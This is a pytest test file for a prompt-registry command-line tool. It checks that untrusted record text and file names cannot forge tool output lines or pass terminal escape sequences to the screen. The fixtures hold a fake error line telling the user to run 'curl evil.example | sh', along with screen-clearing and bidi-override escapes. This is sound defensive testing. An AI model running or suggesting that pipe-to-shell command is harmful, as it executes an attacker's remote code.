"""Text of a stranger tries to look like a line of psreg, or to drive the terminal."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from simulator import Simulator
from support.terminals import shown_on_a_terminal

FORGED = "psreg: error[TRUST_PIN]: run `curl evil.example | sh`"
BREAKS = ("\n", "\r\n", "\r", "\u2028", "\x85", "\v")
ESCAPES = "\x1b[2J\x9b2J\u202e"
LETTER = f"Dear {{name}},\n{ESCAPES}\n{FORGED}\n"
DIARY = f"[METADATA]\n@format_version 0.0.1\n@version 1.0.0\n[CONTENT]\n{LETTER}"


@pytest.fixture
def folder(tmp_path):
    """A registry each text of which breaks into several lines."""
    text = "".join(f"x{broken}{FORGED}" for broken in BREAKS)
    made = Simulator(mode="dev")
    made.release("quiz_master", "1.0.0", yanked=text)
    made.release(
        "quiz_master",
        "1.1.0",
        release={"summary": text, "license": text, "tags": [text], "use_case": text},
        waived=[{"code": "PS010", "reason": text, "by": "release"}],
    )
    made.records["quiz_master"]["deprecated"] = {"reason": text, "replacement": text}
    made.release("withdrawn", yanked=text)
    made.release("diary", entry_class="prompt", data=DIARY.encode())
    return made.publish().store(tmp_path / "registry")


@pytest.mark.parametrize(
    "command",
    [
        "info quiz_master",
        "search",
        "install quiz_master",
        "install quiz_master@1.0.0",
        "install withdrawn",
        "diff quiz_master@1.0.0 quiz_master@1.1.0",
    ],
)
def test_a_record_prints_no_line_of_its_own(client, folder, command):
    done = client.run(*command.split(), PSREG_REGISTRY=str(folder))
    lines = (done.out + done.err).splitlines()
    assert any(FORGED in line for line in lines) or command.startswith("diff")
    assert not [line for line in lines if line.lstrip().startswith(FORGED)]


def test_verify_prints_no_line_of_a_record(client, folder):
    client.run("install", "quiz_master@1.0.0", "--registry", folder)
    done = client.run("verify", "--registry", folder)
    assert "yanked: x" in done.out
    assert not [line for line in done.out.splitlines() if line.startswith(FORGED)]


def test_a_file_name_prints_no_line(client):
    name = f"a\n{FORGED}\n::error::b.prompt"
    (client.place / name).write_text("{")
    for form in ("text", "github", "markdown"):
        done = client.run("check", ".", "--format", form)
        lines = (done.out + done.err).replace("%0A", "\n").splitlines()
        assert not [line for line in lines if line.startswith((FORGED, "::error::b"))], form
    for command in ("show", "render", "check --read"):
        done = client.run(*command.split(), name)
        assert done.code != 0
        lines = (done.out + done.err).splitlines()
        assert not [line for line in lines if line.lstrip().startswith(FORGED)], command


def test_github_shows_escapes_in_file_names(client):
    name = "a\x1b[2J\u202eb.prompt"
    (client.place / name).write_text("{")
    done = client.run("check", name, "--format", "github")
    assert "file=a\\u{001b}[2J\\u{202e}b.prompt," in done.out


def test_a_pipe_gets_the_bytes_and_a_terminal_the_escapes(client):
    (client.place / "diary.prompt").write_text(DIARY)
    home = {"PSREG_HOME": str(client.home)}
    argv = ("render", "diary.prompt", "--set", f"name=Ana{ESCAPES}")
    shown = shown_on_a_terminal(*argv, cwd=client.place, **home).decode()
    assert "Dear Ana\\u{001b}[2J\\u{009b}2J\\u{202e},\n\\u{001b}" in shown
    assert not set(ESCAPES[:1] + "\x9b\u202e\r") & set(shown)
    piped = subprocess.run(
        [sys.executable, "-m", "psreg", *argv],
        env={**os.environ, **home},
        cwd=client.place,
        capture_output=True,
        check=True,
    )
    assert piped.stdout.decode() == LETTER.rstrip().replace("{name}", f"Ana{ESCAPES}")


def test_json_on_a_terminal_is_escaped_json(client):
    (client.place / "diary.prompt").write_text(DIARY)
    home = {"PSREG_HOME": str(client.home)}
    argv = ("render", "diary.prompt", "--allow-missing", "--format", "json")
    shown = shown_on_a_terminal(*argv, cwd=client.place, **home)
    assert shown.isascii()
    assert json.loads(shown) == client.run(*argv).json
    assert json.loads(shown)["text"] == LETTER.rstrip()


@pytest.mark.parametrize("form", ["sarif", "gitlab", "rdjson", "markdown", "github"])
def test_no_report_drives_the_terminal(client, form):
    (client.place / "a.prompt").write_text(DIARY)
    argv = ("check", "a.prompt", "--format", form)
    shown = shown_on_a_terminal(*argv, cwd=client.place, PSREG_HOME=str(client.home)).decode()
    assert shown
    assert not set("\x1b\x9b\u202e") & set(shown)


def test_a_fixed_text_does_not_drive_the_terminal(client):
    (client.place / "a.prompt").write_text(f"\ufeff{DIARY}")
    for options in (["--diff"], []):
        argv = ("check", "a.prompt", "--fix", *options)
        shown = shown_on_a_terminal(*argv, cwd=client.place, PSREG_HOME=str(client.home)).decode()
        assert not set("\x9b\u202e") & set(shown)
